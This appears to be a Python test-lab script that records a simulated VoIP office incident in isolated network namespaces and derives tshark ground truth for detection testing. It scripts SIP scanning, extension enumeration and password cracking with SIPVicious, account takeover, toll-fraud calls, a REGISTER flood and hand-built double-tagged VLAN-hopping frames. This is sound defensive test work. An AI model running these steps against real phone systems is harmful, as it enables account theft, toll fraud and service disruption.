"""Record an office incident in the lab: tests/lab/captures/office-incident.pcap and its ground truth.

The story, on the topology of lab.py (namespaces, userspace switch mirroring every frame 802.1Q-tagged
to the capture port, no route out; kamailio relays only to IP next hops inside the lab networks):

* benign: phones 1001, 1002, 1003 register (digest); 1001 and 1003 call 1002 through kamailio (G.711
  both ways, the SDP answer in the 200 OK); the data VLAN host pings its gateway and fetches a page.
* the attacker (ATTACKER_IP, outside): svmap sweeps the voice net, svwar enumerates 1000-1039 with
  REGISTER, svcrack cracks 1003's weak password (it leaves its binding sip:123@1.1.1.1 behind); then a
  second client (SIPp with a softphone's User-Agent) registers 1003 from the attacker's own address
  (port ATTACKER_UA_PORT) and places FRAUD_NUMBERS through kamailio, which routes 00/011 numbers to the
  PSTN gateway (uc_dmz VLAN); while they run, the legitimate 1003 desk phone is registered and calls
  1002. At the end the desk phone removes its own contact (Expires: 0); the registrar's 200 OK still
  lists the attacker's bindings.
* the flooder (FLOODER_IP, outside): FLOOD_REQUESTS unauthenticated REGISTERs at FLOOD_RATE per second.
* the data VLAN host: HOP_FRAMES double-tagged frames (outer VLAN 20, inner voice VLAN 110) carrying a
  SIP OPTIONS to kamailio (the switch drops them; its mirror copies them as received, --mirror-tagged),
  then HOP_OPTIONS routed SIP OPTIONS from the data VLAN to kamailio (answered).

The ground truth (office-incident.json) holds the actors, what each tool reported (svmap, svwar and
svcrack's result tables, SIPp's own call statistics), and tshark's counts of the packets that matter,
each both as frames and as packets: a packet routed between two lab VLANs is mirrored once per VLAN
(same addresses, IP id and UDP payload within SPAN_COPY_WINDOW_S, on another VLAN), and a "packet"
counts those copies once. Every process is bounded by `timeout` and ended by its pid. Run as root:

    python tests/lab/office_incident.py --capture tests/lab/captures/office-incident.pcap

(writes office-incident.json and office-incident.site.toml beside the capture). --manifest-only
recomputes the tshark part of an existing manifest from its capture (the tools' part is kept).
"""
from __future__ import annotations

import argparse
import hashlib
import json
import os
import re
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import time
from collections import Counter, defaultdict
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from lab.lab import (DATA_HOST_IP, DATA_VLAN, FLOODER_IP, HOST, KAMAILIO_IP, PSTN_GW_IP,  # noqa: E402
                     ROUTER_IPS, SCANNER_IP, USERS, VOICE_VLAN, LabError, mac_for, running_lab, site_toml,
                     parse_svcrack, parse_svmap, parse_svwar, ulaw_tone)

ATTACKER_IP = SCANNER_IP                 # scan, enumeration, crack, registration, fraud: one address
ATTACKER_UA_PORT = 5062                  # the attacker's second client (SIPp as a softphone)
ATTACKER_UA = "Z 5.5.12 v2.10.18.2"      # the softphone User-Agent it presents (uac_intl.xml says the same)
VICTIM = HOST["ph3"]                     # the desk phone whose account is cracked
VICTIM_USER = VICTIM.user
WEAK_PASSWORD = "summer2024"
# Every account strong but the victim's (lab.USERS makes 1005 weak; here it is not).
SITE_USERS = {u: WEAK_PASSWORD if u == VICTIM_USER else f"Lab-{int(u) - 1000:02d}-kq7V!x{(int(u) - 1000) * 37 % 91:02d}"
              for u in USERS}
# svcrack's dictionary: 18 wrong guesses, then the hit.
DICTIONARY = ("123456", "password", VICTIM_USER, "admin", "12345678", "qwerty", "letmein", "welcome", "111111",
              "abc123", "voip", f"sip{VICTIM_USER}", "changeme", "secret", f"pass{VICTIM_USER}", "test", "1234",
              "000000", WEAK_PASSWORD, "winter2024")
# The fraud calls, in order: the proxy routes 00/011 numbers to the PSTN gateway; a "+" number is
# nobody's there (404 from the proxy).
FRAUD_NUMBERS = ("00882161234567", "011881612345678", "+882161234500", "00442071234567", "0119613123456",
                 "00881631234567", "011252612345678")
FRAUD_ROUTED = tuple(n for n in FRAUD_NUMBERS if re.match(r"^(00|011)[1-9][0-9]{6,}$", n))
BENIGN_CALLS = {"ph1": 2, "ph3": 2}      # calls to 1002 from each calling desk phone
FLOOD_REQUESTS, FLOOD_RATE = 600, 75     # REGISTERs, per second: 8 s
HOP_FRAMES, HOP_OPTIONS = 4, 3           # double-tagged frames, routed SIP OPTIONS from the data VLAN
SPAN_COPY_WINDOW_S = 0.05                # a routed packet's mirror copies arrive within microseconds
CAPTURE_NAME = "office-incident"


# ---- the scenario ----------------------------------------------------------------------------------
def record(pcap: Path, workdir: Path) -> dict:
    """Run the story with tcpdump on the mirror port; return what each tool reported."""
    w = workdir
    (w / "tone.ulaw").write_bytes(ulaw_tone(7))
    (w / "dictionary.txt").write_text("\n".join(DICTIONARY) + "\n")
    (w / "flood_users.csv").write_text("SEQUENTIAL\n" + "".join(f"{u};\n" for u in SITE_USERS))
    (w / "fraud.csv").write_text("SEQUENTIAL\n" + "".join(f"{VICTIM_USER};{n};\n" for n in FRAUD_NUMBERS))
    (w / "www").mkdir(exist_ok=True)
    (w / "www" / "index.html").write_text("<html><body>intranet</body></html>\n")
    home = w / "home"
    home.mkdir(exist_ok=True)
    env = dict(os.environ, HOME=str(home))
    report: dict = {"tools": {}, "timeline": []}
    t0 = time.monotonic()

    def mark(step: str) -> None:
        report["timeline"].append((round(time.monotonic() - t0, 1), step))

    def sipp(lab, role, ip, scenario, name, *, calls, limit_s, keys=(), **kw):
        stat = w / f"{name}.stat.csv"
        argv = lab.sipp_argv(ip, scenario, calls=calls, limit_s=limit_s, **kw) + ["-trace_stat", "-stf", str(stat)]
        for key, value in keys:
            argv += ["-key", key, value]
        proc = lab.spawn(role, argv, name=name, limit_s=limit_s + 5)
        proc.stat = stat
        return proc

    def finished(proc, timeout: float) -> dict:
        if proc.wait(timeout) is None:
            lab.end(proc)
        out = {"rc": proc.popen.returncode}
        out.update(sipp_stats(getattr(proc, "stat", None)))
        report["tools"][proc.name] = out
        return out

    with running_lab(w, pcap=pcap, kamailio=False, max_seconds=200, mirror_tagged=True) as lab:
        lab.start_kamailio(users=SITE_USERS)
        mark("kamailio")
        lab.spawn("rt", [sys.executable, "-m", "http.server", "8080", "--bind", ROUTER_IPS[DATA_VLAN],
                         "--directory", str(w / "www")], name="intranet_http", limit_s=120)
        lab.spawn("data", [sys.executable, str(Path(__file__).with_name("lab.py")), "data-traffic",
                           ROUTER_IPS[DATA_VLAN], "16", "10"], name="data_host", limit_s=20)
        # the desk phones register (401, then digest, 200)
        regs = [sipp(lab, h.role, h.ip, "register_as.xml", f"register_{h.role}", calls=1, limit_s=15,
                     service=h.user, auth=(h.user, SITE_USERS[h.user]),
                     keys=(("expires", "600"), ("ua", "LabPhone/1.0 (sipp)")))
                for h in (HOST["ph1"], HOST["ph2"], VICTIM)]
        for proc in regs:
            finished(proc, 20)
        mark("phones registered")

        # the attacker: sweep, enumerate, crack
        scan = lab.run("att", ["svmap", "-b", ATTACKER_IP, "-x", ATTACKER_IP, "-t", "0.05", "10.110.0.1-30"],
                       name="svmap", limit_s=25, env=env)
        report["tools"]["svmap"] = {"rc": scan.popen.returncode, "found": parse_svmap(scan.stdout() + scan.stderr())}
        mark("svmap")
        war = lab.run("att", ["svwar", "-b", ATTACKER_IP, "-x", ATTACKER_IP, "-t", "0.05", "-e", "1000-1039",
                              "-m", "REGISTER", KAMAILIO_IP], name="svwar", limit_s=25, env=env)
        report["tools"]["svwar"] = {"rc": war.popen.returncode, "extensions": parse_svwar(war.stdout() + war.stderr())}
        mark("svwar")
        crack = lab.run("att", ["svcrack", "-b", ATTACKER_IP, "-x", ATTACKER_IP, "-t", "0.05", "-u", VICTIM_USER,
                                "-d", str(w / "dictionary.txt"), KAMAILIO_IP], name="svcrack", limit_s=30, env=env)
        cracked = parse_svcrack(crack.stdout() + crack.stderr())
        report["tools"]["svcrack"] = {"rc": crack.popen.returncode, "cracked": cracked,
                                      "guesses": len(DICTIONARY[:DICTIONARY.index(WEAK_PASSWORD) + 1])}
        mark("svcrack")
        if cracked.get(VICTIM_USER) != WEAK_PASSWORD:
            raise LabError(f"svcrack did not find {VICTIM_USER}'s password: {cracked}")

        # callees answer from now on (after the sweep, so that svmap's OPTIONS meet no SIPp UAS)
        uas = sipp(lab, "ph2", HOST["ph2"].ip, "uas_rtp.xml", "uas_ph2", calls=sum(BENIGN_CALLS.values()),
                   limit_s=80, uas=True)
        gw = sipp(lab, "gw", PSTN_GW_IP, "uas_gateway.xml", "uas_gw", calls=len(FRAUD_ROUTED), limit_s=80, uas=True)
        time.sleep(0.5)

        # the attacker's second client registers the cracked account at its own address
        takeover = sipp(lab, "att", ATTACKER_IP, "register_as.xml", "attacker_register", calls=1, limit_s=15,
                        service=VICTIM_USER, auth=(VICTIM_USER, cracked[VICTIM_USER]), port=ATTACKER_UA_PORT,
                        keys=(("expires", "600"), ("ua", ATTACKER_UA)))
        finished(takeover, 20)
        mark("attacker registered the cracked account")

        # fraud calls from the attacker, while the desk phones (1003 among them) call 1002
        fraud = sipp(lab, "att", ATTACKER_IP, "uac_intl.xml", "fraud_calls", calls=len(FRAUD_NUMBERS), limit_s=45,
                     inf=w / "fraud.csv", auth=(VICTIM_USER, cracked[VICTIM_USER]), rate=1, limit=3,
                     port=ATTACKER_UA_PORT)
        callers = []
        for role, n in BENIGN_CALLS.items():
            h = HOST[role]
            (w / f"calls_{role}.csv").write_text(f"SEQUENTIAL\n{h.user};{HOST['ph2'].user};\n")
            callers.append(sipp(lab, role, h.ip, "uac_call_rtp.xml", f"uac_{role}", calls=n, limit=1, limit_s=50,
                                inf=w / f"calls_{role}.csv", auth=(h.user, SITE_USERS[h.user])))
            time.sleep(1.5)
        for proc in (fraud, *callers):
            finished(proc, 55)
        mark("fraud and benign calls")
        time.sleep(1.0)                         # the last BYE/200 reach the callees
        for proc in (uas, gw):
            finished(proc, 3)

        # the flood
        flood = sipp(lab, "att", FLOODER_IP, "register_flood.xml", "register_flood", calls=FLOOD_REQUESTS,
                     inf=w / "flood_users.csv", rate=FLOOD_RATE, limit=100, limit_s=30, port=5070)
        finished(flood, 35)
        mark("flood")

        # the VLAN hop from the data VLAN host
        hop = lab.run("data", [sys.executable, str(Path(__file__)), "vlan-hop", str(HOP_FRAMES), str(HOP_OPTIONS)],
                      name="vlan_hop", limit_s=15)
        report["tools"]["vlan_hop"] = {"rc": hop.popen.returncode, **last_json(hop.stdout())}
        mark("vlan hop")

        # the desk phone removes its own contact; the attacker's stay bound
        unreg = sipp(lab, VICTIM.role, VICTIM.ip, "register_as.xml", "unregister_ph3", calls=1, limit_s=15,
                     service=VICTIM_USER, auth=(VICTIM_USER, SITE_USERS[VICTIM_USER]),
                     keys=(("expires", "0"), ("ua", "LabPhone/1.0 (sipp)")))
        finished(unreg, 20)
        mark("desk phone unregistered")
        time.sleep(2.0)             # tcpdump gets what the kernel holds for it (libpcap's 1 s block timeout)
        log = lab.kamailio.stderr().splitlines()
        report["kamailio_registered"] = [line.split("LAB ", 1)[1] for line in log if "LAB registered" in line]
        report["kamailio_safety_log"] = [line.split("LAB ", 1)[1] for line in log if "LAB SAFETY" in line]
    report["switch"] = {k: v for k, v in (lab.switch_stats or {}).items() if k != "ports"}
    report["scenario_s"] = round(time.monotonic() - t0, 1)
    return report


def sipp_stats(path: Path | None) -> dict:
    """SIPp's own cumulative counters from its -trace_stat file (';'-separated, last line final)."""
    if path is None or not path.exists():
        return {}
    lines = [line for line in path.read_text().splitlines() if line.strip()]
    if len(lines) < 2:
        return {}
    row = dict(zip(lines[0].split(";"), lines[-1].split(";")))
    names = {"TotalCallCreated": "calls_created", "SuccessfulCall(C)": "successful_calls",
             "FailedCall(C)": "failed_calls", "Retransmissions(C)": "retransmissions"}
    return {ours: int(row[theirs]) for theirs, ours in names.items() if row.get(theirs, "").isdigit()}


def last_json(text: str) -> dict:
    for line in reversed(text.splitlines()):
        if line.startswith("{"):
            return json.loads(line)
    return {}


# ---- the VLAN hop, run inside the data host's namespace ------------------------------------------------
def _checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _options(n: int, kind: str) -> bytes:
    return (f"OPTIONS sip:{KAMAILIO_IP} SIP/2.0\r\nVia: SIP/2.0/UDP {DATA_HOST_IP}:5060;branch=z9hG4bK-{kind}-{n}\r\n"
            f"From: <sip:probe@{DATA_HOST_IP}>;tag={kind}{n}\r\nTo: <sip:{KAMAILIO_IP}>\r\n"
            f"Call-ID: {kind}-{n}@{DATA_HOST_IP}\r\nCSeq: 1 OPTIONS\r\nMax-Forwards: 70\r\n"
            f"User-Agent: hop-probe\r\nContent-Length: 0\r\n\r\n").encode()


def _double_tagged_frame(n: int) -> bytes:
    """Ethernet to the proxy's MAC with two IEEE 802.1Q tags, outer = the data VLAN (the port's own),
    inner = the voice VLAN, carrying an IPv4 (RFC 791) UDP (RFC 768: checksum over the pseudo-header)
    datagram with a SIP OPTIONS to the proxy."""
    src, dst = socket.inet_aton(DATA_HOST_IP), socket.inet_aton(KAMAILIO_IP)
    payload = _options(n, "hop")
    udp = struct.pack("!HHHH", 5060, 5060, 8 + len(payload), 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_UDP, len(udp) + len(payload))
    udp = udp[:6] + struct.pack("!H", _checksum(pseudo + udp + payload) or 0xFFFF)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), 0x4800 + n, 0, 64, socket.IPPROTO_UDP,
                     0, src, dst)
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    macs = bytes.fromhex(mac_for(KAMAILIO_IP).replace(":", "")) + bytes.fromhex(mac_for(DATA_HOST_IP).replace(":", ""))
    tags = struct.pack("!HHHH", 0x8100, DATA_VLAN, 0x8100, VOICE_VLAN)
    return macs + tags + struct.pack("!H", 0x0800) + ip + udp + payload


def _vlan_hop(frames: int, options: int) -> None:
    """Double-tagged frames with a SIP OPTIONS to the proxy, as a double-tagging hop sends them (the
    access port drops them); then SIP OPTIONS routed from the data VLAN to the proxy, answered."""
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        for n in range(1, frames + 1):
            raw.send(_double_tagged_frame(n))
            sent += 1
            time.sleep(0.2)
    answered = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((DATA_HOST_IP, 5060))
        s.settimeout(1.0)
        for n in range(1, options + 1):
            s.sendto(_options(n, "probe"), (KAMAILIO_IP, 5060))
            try:
                if s.recv(4096).startswith(b"SIP/2.0 200"):
                    answered += 1
            except OSError:
                pass
            time.sleep(0.2)
    print(json.dumps({"double_tagged_frames": sent, "options_sent": options, "options_answered": answered}),
          flush=True)


# ---- the ground truth, from tshark -------------------------------------------------------------------
FIELDS = ("frame.number", "frame.time_epoch", "vlan.id", "ip.src", "ip.dst", "ip.id", "udp.srcport", "udp.dstport",
          "sip.Method", "sip.Status-Code", "sip.CSeq.seq", "sip.CSeq.method", "sip.Via.branch", "sip.Call-ID",
          "sip.from.user", "sip.to.user", "sip.r-uri.user", "sip.Authorization", "sip.Contact", "sip.User-Agent",
          "sdp.connection_info.address", "sdp.media.port", "udp.payload")


def tshark_sip(pcap: Path) -> list[dict]:
    """Every SIP message tshark dissects (not the ones quoted inside ICMP errors), one dict per frame."""
    out = subprocess.run(["tshark", "-n", "-r", str(pcap), "-Y", "sip and not icmp", "-T", "fields",
                          "-E", "separator=\t", "-E", "aggregator=|", "-E", "occurrence=a",
                          *(arg for f in FIELDS for arg in ("-e", f))],
                         capture_output=True, text=True, check=True, timeout=300).stdout
    rows = []
    for line in out.splitlines():
        r = dict(zip(FIELDS, line.split("\t")))
        rows.append({"frame": int(r["frame.number"]), "t": float(r["frame.time_epoch"]),
                     "vlans": [int(v) for v in r["vlan.id"].split("|") if v], "src": r["ip.src"], "dst": r["ip.dst"],
                     "ip_id": r["ip.id"], "sport": r["udp.srcport"], "dport": r["udp.dstport"],
                     "method": r["sip.Method"] or None,
                     "status": int(r["sip.Status-Code"]) if r["sip.Status-Code"] else None,
                     "cseq": r["sip.CSeq.seq"], "branch": r["sip.Via.branch"].split("|")[0],
                     "cseq_method": r["sip.CSeq.method"], "call_id": r["sip.Call-ID"], "from_user": r["sip.from.user"],
                     "to_user": r["sip.to.user"], "ruri_user": r["sip.r-uri.user"],
                     "credentials": bool(r["sip.Authorization"]), "contact": r["sip.Contact"],
                     "user_agent": r["sip.User-Agent"], "sdp_c": r["sdp.connection_info.address"],
                     "sdp_m": r["sdp.media.port"],
                     "payload_md5": hashlib.md5(r["udp.payload"].encode()).hexdigest()})
    return rows


def mark_span_copies(rows: list[dict]) -> None:
    """Mark each frame that is a mirror copy of an earlier one (same addresses, ports, IP id and UDP
    payload within SPAN_COPY_WINDOW_S, seen on another VLAN) and give every packet its VLAN path."""
    last: dict[tuple, dict] = {}
    for r in rows:
        key = (r["src"], r["dst"], r["sport"], r["dport"], r["ip_id"], r["payload_md5"])
        first = last.get(key)
        if first is not None and r["t"] - first["t_last"] <= SPAN_COPY_WINDOW_S and r["vlans"][0] not in first["path"]:
            r["copy_of"] = first["frame"]
            first["path"].append(r["vlans"][0])
            first["t_last"] = r["t"]
        else:
            r["copy_of"] = None
            r["path"] = [r["vlans"][0]] if r["vlans"] else []
            r["t_last"] = r["t"]
            last[key] = r


def count_by(rows, key) -> dict:
    """Packets (mirror copies left out) per key."""
    return dict(sorted(Counter(key(r) for r in rows if not r["copy_of"]).items()))


def frames_and_packets(rows, key) -> dict:
    frames, packets = Counter(key(r) for r in rows), Counter(key(r) for r in rows if not r["copy_of"])
    return {k: {"frames": frames[k], "packets": packets[k]} for k in sorted(frames)}


def ground_truth(pcap: Path) -> dict:
    """tshark's counts of the packets the story is made of (see the module docstring)."""
    rows = tshark_sip(pcap)
    mark_span_copies(rows)
    packets = [r for r in rows if not r["copy_of"]]
    requests = [r for r in packets if r["method"]]
    responses = [r for r in packets if r["status"] is not None]
    out: dict = {}
    out["sip_frames"], out["sip_packets"] = len(rows), len(packets)
    out["span_copies"] = sum(1 for r in rows if r["copy_of"])
    out["span_copy_paths"] = count_by([r for r in rows if len(r.get("path", [])) > 1],
                                      lambda r: f"{r['src']}>{r['dst']} {'->'.join(map(str, r['path']))}")
    # SIP messages per source: requests by method, responses by "status CSeq-method", frames and packets
    out["messages_by_source"] = {
        src: frames_and_packets([r for r in rows if r["src"] == src],
                                lambda r: r["method"] or f"{r['status']} {r['cseq_method']}")
        for src in sorted({r["src"] for r in rows})}

    # REGISTER per source and To user: requests, with credentials, the answers they got, and each
    # transaction's final answer (a response matches its request by Call-ID, CSeq and the top Via
    # branch, RFC 3261 §17.1.3): a 401/403/407 to a request with credentials is a failed login, a
    # 401/407 to one without is a challenge, any other answer >= 300 a rejection
    regs: dict = defaultdict(lambda: defaultdict(Counter))
    final: dict[tuple, int] = {}
    final_any = {}
    for r in responses:
        if r["status"] >= 200:
            final_any.setdefault((r["call_id"], r["cseq"], r["branch"]), r["status"])
    for r in responses:
        if r["cseq_method"] == "REGISTER" and r["status"] >= 200:
            final.setdefault((r["call_id"], r["cseq"], r["branch"]), r["status"])
            regs[r["dst"]][r["to_user"]][str(r["status"])] += 1
    for r in requests:
        if r["method"] == "REGISTER":
            c = regs[r["src"]][r["to_user"]]
            c["requests"] += 1
            c["with_credentials"] += r["credentials"]
            status = final.get((r["call_id"], r["cseq"], r["branch"]))
            if status is None:
                c["unanswered"] += 1
            elif 200 <= status < 300:
                c["successes"] += 1
            elif status in (401, 403, 407) and r["credentials"]:
                c["failures"] += 1
            elif status in (401, 407):
                c["challenges"] += 1
            else:
                c["rejected"] += 1
    out["registers"] = {src: {user: dict(sorted(c.items())) for user, c in sorted(users.items())}
                        for src, users in sorted(regs.items())}

    # the registrar's 200 OKs to REGISTER: who was bound where (Contact list as the registrar sent it)
    out["register_200_contacts"] = [
        {"frame": r["frame"], "t": r["t"], "to": r["dst"], "user": r["to_user"], "contacts": r["contact"].split("|")}
        for r in responses if r["cseq_method"] == "REGISTER" and r["status"] == 200]

    # calls: every Call-ID with an INVITE
    calls: dict = {}
    for r in packets:
        if r["method"] == "INVITE" and r["call_id"] not in calls:
            calls[r["call_id"]] = {"call_id": r["call_id"], "src": r["src"], "caller": r["from_user"],
                                   "callee": r["ruri_user"], "first_frame": r["frame"], "t": r["t"],
                                   "invites": 0, "final": None, "answer_legs": {}}
        call = calls.get(r["call_id"])
        if call is None:
            continue
        if r["method"] == "INVITE":
            call["invites"] += 1
        if r["cseq_method"] == "INVITE" and r["status"] is not None and r["status"] >= 200:
            # the outcome the caller saw: the final response the proxy sent to the caller
            if r["dst"] == call["src"] and call["final"] not in range(200, 300):
                call["final"] = r["status"]
            if 200 <= r["status"] < 300 and r["sdp_c"]:
                leg = f"{r['src']}>{r['dst']}"
                call["answer_legs"].setdefault(leg, {"frame": r["frame"], "c": r["sdp_c"],
                                                     "m": int(r["sdp_m"].split("|")[0]), "path": r["path"]})
    out["calls"] = sorted(calls.values(), key=lambda c: c["first_frame"])
    out["calls_by_source"] = dict(sorted(Counter(c["src"] for c in out["calls"]).items()))
    out["calls_to_destination"] = dict(sorted(Counter(c["callee"] for c in out["calls"]).items()))
    out["invites_by_source"] = frames_and_packets([r for r in rows if r["method"] == "INVITE"], lambda r: r["src"])

    # identities the attacker probed without credentials (REGISTER To users, OPTIONS R-URI users) and
    # the final answer each got: this registrar answers a REGISTER for a known user 401 and for an unknown
    # one 404 (it leaks validity); it challenges every other request (407) before looking its target up,
    # which reveals nothing
    probes: dict[str, set] = defaultdict(set)
    answers: dict[str, Counter] = defaultdict(Counter)
    for r in requests:
        if r["src"] == ATTACKER_IP and not r["credentials"] and r["method"] in ("REGISTER", "OPTIONS"):
            user = r["to_user"] if r["method"] == "REGISTER" else r["ruri_user"]
            if user:
                probes[r["method"]].add(user)
                status = final_any.get((r["call_id"], r["cseq"], r["branch"]))
                answers[user][f"{status} {r['method']}"] += 1
    out["identity_probes"] = {"register_to_users": sorted(probes["REGISTER"]),
                              "options_ruri_users": sorted(probes["OPTIONS"]),
                              "users": len(probes["REGISTER"] | probes["OPTIONS"]),
                              "valid": sorted(u for u, c in answers.items() if "401 REGISTER" in c),
                              "unknown": sorted(u for u, c in answers.items() if "404 REGISTER" in c),
                              "answers": {u: dict(c) for u, c in sorted(answers.items())}}

    # the flood
    flood = [r for r in requests if r["src"] == FLOODER_IP]
    out["flood"] = {"source": FLOODER_IP, "requests": len(flood), "methods": dict(Counter(r["method"] for r in flood)),
                    "first_t": flood[0]["t"] if flood else None, "last_t": flood[-1]["t"] if flood else None,
                    "span_s": round(flood[-1]["t"] - flood[0]["t"], 6) if flood else None,
                    "answers": dict(sorted(Counter(str(r["status"]) for r in responses
                                               if r["dst"] == FLOODER_IP).items())),
                    "accounts": dict(sorted(Counter(r["to_user"] for r in flood).items()))}

    # the sweep: OPTIONS from the attacker per destination, and the ICMP errors that answered some
    out["options_by_source_and_destination"] = {
        src: dict(sorted(Counter(r["dst"] for r in requests if r["src"] == src and r["method"] == "OPTIONS").items()))
        for src in sorted({r["src"] for r in requests if r["method"] == "OPTIONS"})}
    icmp = subprocess.run(["tshark", "-n", "-r", str(pcap), "-Y", "icmp.type == 3", "-T", "fields", "-e", "ip.src",
                           "-e", "ip.dst", "-e", "icmp.code", "-E", "occurrence=f"],
                          capture_output=True, text=True, check=True, timeout=300).stdout
    out["icmp_unreachable"] = dict(sorted(Counter(line.replace("\t", " ") for line in icmp.splitlines()).items()))

    # the VLAN hop: frames with a tag stack, and SIP from the data VLAN
    stacks = subprocess.run(["tshark", "-n", "-r", str(pcap), "-Y", "vlan", "-T", "fields", "-e", "vlan.id",
                             "-E", "aggregator=|", "-E", "occurrence=a"],
                            capture_output=True, text=True, check=True, timeout=300).stdout.splitlines()
    out["vlan_stacks"] = dict(sorted(Counter(stacks).items()))
    out["double_tagged_sip"] = [{"frame": r["frame"], "vlans": r["vlans"], "src": r["src"], "dst": r["dst"],
                                 "method": r["method"]} for r in rows if len(r["vlans"]) > 1]
    out["sip_from_data_vlan"] = frames_and_packets([r for r in rows
                                                    if r["src"] == DATA_HOST_IP and len(r["vlans"]) == 1],
                                                   lambda r: f"{r['method'] or r['status']} {r['src']}>{r['dst']}")
    out["user_agents_by_source"] = {src: dict(sorted(Counter(r["user_agent"] for r in requests
                                                             if r["src"] == src).items()))
                                    for src in sorted({r["src"] for r in requests})}
    return out


def manifest(pcap: Path, report: dict) -> dict:
    frames = subprocess.run(["capinfos", "-M", "-c", "-a", "-e", "-T", "-r", str(pcap)], capture_output=True,
                            text=True, check=True, timeout=60).stdout.split("\t")
    return {
        "capture": {"file": pcap.name, "sha256": hashlib.sha256(pcap.read_bytes()).hexdigest(),
                    "frames": int(frames[1]), "site": f"{CAPTURE_NAME}.site.toml",
                    "recorded_by": "tests/lab/office_incident.py"},
        "actors": {
            "attacker": {"ip": ATTACKER_IP, "ua_port": ATTACKER_UA_PORT, "user_agent": ATTACKER_UA,
                         "accounts": [VICTIM_USER], "victim_phone": VICTIM.ip,
                         "phases": ["scan", "enumeration", "brute_force", "crack", "rogue_binding",
                                    "registration_from_internet", "account_takeover", "toll_fraud"],
                         "rogue_contacts": ["sip:123@1.1.1.1", f"sip:{VICTIM_USER}@{ATTACKER_IP}:{ATTACKER_UA_PORT}"],
                         "fraud_numbers": list(FRAUD_NUMBERS), "fraud_routed": list(FRAUD_ROUTED)},
            "flooder": {"ip": FLOODER_IP, "phases": ["flood"], "requests": FLOOD_REQUESTS, "rate": FLOOD_RATE},
            "data_host": {"ip": DATA_HOST_IP, "mac": mac_for(DATA_HOST_IP), "vlan": DATA_VLAN,
                          "phases": ["vlan_hop"], "double_tagged_frames": HOP_FRAMES, "options": HOP_OPTIONS},
        },
        "benign": {"phones": {h.user: h.ip for h in (HOST["ph1"], HOST["ph2"], HOST["ph3"])},
                   "calls": {HOST[role].user: n for role, n in BENIGN_CALLS.items()}, "callee": HOST["ph2"].user,
                   "proxy": KAMAILIO_IP, "pstn_gateway": PSTN_GW_IP},
        "tools": report["tools"],
        "timeline_s": report.get("timeline", []),
        "kamailio_registered": report.get("kamailio_registered", []),
        "kamailio_safety_log": report.get("kamailio_safety_log", []),
        "switch": report.get("switch", {}),
        "tshark": ground_truth(pcap),
    }


def site_file() -> str:
    """The lab's site model; the dial plan's high-risk list also names +881 (satellite)."""
    text = site_toml()
    return re.sub(r"^high_risk = \[(.*)\]$", lambda m: f"high_risk = [{m.group(1)}, '^(\\+|00|011|9011)881']",
                  text, count=1, flags=re.M)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--capture", type=Path, required=True, help="the pcap to write (or read, --manifest-only)")
    parser.add_argument("--manifest-only", action="store_true",
                        help="recompute the manifest's tshark counts from the existing capture, keep the tools' part")
    args = parser.parse_args()
    pcap = args.capture.resolve()
    base = pcap.with_suffix("")
    if args.manifest_only:
        old = json.loads(Path(str(base) + ".json").read_text())
        report = {"tools": old["tools"], "timeline": old["timeline_s"], "switch": old["switch"],
                  **{k: old[k] for k in ("kamailio_registered", "kamailio_safety_log")}}
    else:
        workdir = Path(tempfile.mkdtemp(prefix="vw-incident-"))
        try:
            report = record(pcap, workdir)
        except LabError as exc:
            print(f"error: {exc}; logs kept in {workdir}/logs", file=sys.stderr)
            return 1
        failed = {name: t for name, t in report["tools"].items() if t.get("rc") not in (0, None)
                  and name not in ("uas_ph2", "uas_gw")}
        if failed:
            print(f"error: tools failed: {failed}; logs kept in {workdir}/logs", file=sys.stderr)
            return 1
        shutil.rmtree(workdir)
    Path(str(base) + ".site.toml").write_text(site_file())
    Path(str(base) + ".json").write_text(json.dumps(manifest(pcap, report), indent=1) + "\n")
    print(f"wrote {pcap} ({pcap.stat().st_size} bytes), {base}.json, {base}.site.toml")
    return 0


if __name__ == "__main__":
    if len(sys.argv) == 4 and sys.argv[1] == "vlan-hop":
        _vlan_hop(int(sys.argv[2]), int(sys.argv[3]))
        sys.exit(0)
    sys.exit(main())
